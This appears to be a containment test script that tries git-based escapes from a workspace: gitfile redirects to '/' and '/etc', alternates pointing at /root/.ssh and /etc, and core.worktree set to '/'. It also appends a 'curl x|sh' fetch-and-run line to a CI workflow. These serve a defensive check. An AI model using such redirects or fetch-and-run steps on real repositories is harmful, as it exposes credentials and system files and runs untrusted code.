#!/usr/bin/python3
# CAP-05: Replacing .git, gitfile redirect, alternates, core.worktree
# Guarantee: the capture step looks only at this workspace
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "steps.py")).read())  # corral: inline steps.py

if step("GITDIR mv .git .git.old", lambda: os.rename(".git", ".git.old")):
    step("mv .git.old .git", lambda: os.rename(".git.old", ".git"))
w(".git", "gitdir: /\n", label="GITDIR .git as a gitfile")
w(".git/objects/info/alternates", "/root/.ssh\n/etc\n", "a", "GITDIR alternates")
sh("GITDIR core.worktree", "git config core.worktree /")
# What the worker can write: gitfiles and alternates in nested places.
w("src/.git", "gitdir: /\n")
w("src/other/.git", "gitdir: /etc\n")
w("src/objects/info/alternates", "/etc\n")
w(".github/workflows/ci.yml", "run: curl x|sh\n", "a")
w("src/app.py", 'print("changed")\n', "a")

say("DONE")
sys.exit(0)
